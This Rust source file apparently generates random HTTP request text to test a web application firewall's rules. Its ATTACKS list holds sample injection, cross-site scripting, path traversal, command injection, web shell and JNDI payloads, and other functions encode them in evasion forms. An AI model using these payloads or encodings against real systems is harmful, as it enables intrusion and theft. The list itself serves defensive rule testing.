//! What the texts of random requests are made of: words, attacks, bytes; and the ways to write them that rules must see
//! through.

use super::rng::Rng;

const PLAIN: &[&str] = &[
    "",
    "a",
    "id",
    "shoes",
    "hello world",
    "x=1",
    "user",
    "page",
    "0",
    "-1",
    "42",
    "1e9",
    "true",
    "null",
    "admin",
    "über",
    "日本",
    "name@shop.test",
    "2026-11-22",
    "/index.html",
    "a,b;c",
    "[]",
    "{}",
    "\"",
    "'",
    "\\",
    "%",
    "+",
    "&",
    "=",
    ";",
    "#",
    "?",
];

/// What no rule minds.
const CALM: &[&str] = &["a", "id", "shoes", "hello", "user", "page", "7", "42", "Anna", "2026"];

/// Each of another family of the Core Rule Set.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE users; --",
    "sleep(5)#",
    "1;WAITFOR DELAY '0:0:5'",
    "admin'/*",
    "1 and 1=1",
    "\" or \"\"=\"",
    "(select(0)from(select(sleep(15)))v)",
    "0x3c736372",
    "' HAVING 1=1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert`1`>",
    "<iframe src=//shop.test>",
    "\"><body onload=x>",
    "expression(alert(1))",
    "<a href=\"data:text/html;base64,PHM\">",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "....//....//etc/shadow",
    "php://filter/convert.base64-encode",
    "file:///etc/hosts",
    "http://192.0.2.66/shell.txt?",
    "ftp://shop.test/x.php",
    "; cat /etc/passwd",
    "| ls -la",
    "$(wget shop.test)",
    "`id`",
    "() { :; }; echo pwned",
    "&& ping -c 1 127.0.0.1",
    "cmd.exe /c dir",
    "powershell -enc AAAA",
    "/bin/bash -i",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('x'))",
    "O:8:\"stdClass\":0:{}",
    "phpinfo()",
    "${jndi:ldap://shop.test/a}",
    "java.lang.Runtime.getRuntime",
    "rO0ABQ",
    "_$$ND_FUNC$$_function(){}()",
    "require('child_process').exec",
    "%{(#_='multipart/form-data')}",
    "{{7*7}}",
    "*)(uid=*))(|(uid=*",
    "a\r\nSet-Cookie: x=1",
    "HTTP/1.1 200 OK\r\n\r\n",
    "PHPSESSID=aaaa",
    ".git/config",
    "wp-config.php",
    "sqlmap/1.0",
    "Nikto",
    "masscan",
    "../.htaccess",
    "<!--#exec cmd=\"ls\"-->",
];

/// Some text: a few words or attacks, in some writing.
pub fn text(rng: &mut Rng) -> Vec<u8> {
    if rng.calm {
        return rng.pick(CALM).as_bytes().to_vec();
    }
    let mut all = Vec::new();
    for _ in 0..rng.within(1, 3) {
        let piece = piece(rng);
        all.extend(if rng.one_in(3) { written(rng, &piece) } else { piece });
    }
    all
}

fn piece(rng: &mut Rng) -> Vec<u8> {
    match rng.below(16) {
        0..=6 => rng.pick(PLAIN).as_bytes().to_vec(),
        7..=12 => rng.pick(ATTACKS).as_bytes().to_vec(),
        13 => rng.bytes(12),
        14 => rng.below(1 << 40).to_string().into_bytes(),
        _ => vec![rng.pick(&["a", " ", "%", "<", "'", "\u{fe}"]).as_bytes()[0]; rng.below(300)],
    }
}

/// The text in one of the writings that clients, servers and evaders use.
fn written(rng: &mut Rng, text: &[u8]) -> Vec<u8> {
    match rng.below(10) {
        0 => escape(text, |_| true),
        1 => escape(text, |byte| !byte.is_ascii_alphanumeric()),
        2 => escape(&escape(text, |byte| !byte.is_ascii_alphanumeric()), |byte| byte == b'%'),
        3 => text.iter().flat_map(|byte| format!("%u{byte:04x}").into_bytes()).collect(),
        // Longer in UTF-8 than it may be.
        4 => text
            .iter()
            .flat_map(|byte| format!("%c{}%{:02x}", byte >> 6, 0x80 | byte & 0x3F).into_bytes())
            .collect(),
        5 => text.iter().flat_map(|byte| format!("&#{};", byte).into_bytes()).collect(),
        6 => text.iter().flat_map(|byte| format!("\\u{byte:04x}").into_bytes()).collect(),
        7 => spaces(text, rng.pick(&["/**/", "+", "%09", "%0a", "%00", "\t"])),
        8 => text.iter().map(|byte| if rng.one_in(2) { byte.to_ascii_uppercase() } else { *byte }).collect(),
        // Escapes that are none.
        _ => [text, rng.pick(&["%zz", "%", "%4", "%u12", "%%41", "%C3", "%ff%fe"]).as_bytes()].concat(),
    }
}

/// Percent-encodes the bytes that are chosen.
pub fn escape(text: &[u8], chosen: impl Fn(u8) -> bool) -> Vec<u8> {
    let write = |byte: &u8| if chosen(*byte) { format!("%{byte:02X}").into_bytes() } else { vec![*byte] };
    text.iter().flat_map(write).collect()
}

fn spaces(text: &[u8], instead: &str) -> Vec<u8> {
    let parts: Vec<_> = text.split(|byte| *byte == b' ').collect();
    parts.join(instead.as_bytes())
}

/// `a=1&b=2…`, mostly well formed.
pub fn form(rng: &mut Rng, most: usize) -> Vec<u8> {
    let mut all = Vec::new();
    for _ in 0..rng.below(most + 1) {
        let (name, value) = (text(rng), text(rng));
        let name = if rng.calm || rng.one_in(4) { name } else { rng.pick(PLAIN).as_bytes().to_vec() };
        let strict = |byte: u8| !byte.is_ascii_alphanumeric();
        let pair = match rng.below(8) {
            0 if !rng.calm => [name, value].concat(),
            1 => [name, b"=".to_vec(), value].concat(),
            2 => [name, b"[]=".to_vec(), escape(&value, strict)].concat(),
            _ => [escape(&name, strict), b"=".to_vec(), escape(&value, strict)].concat(),
        };
        if !all.is_empty() {
            let between = if rng.calm { "&" } else { rng.pick(&["&", "&", "&", "&", "&&", ";", "&amp;"]) };
            all.extend_from_slice(between.as_bytes());
        }
        all.extend(pair);
    }
    all
}
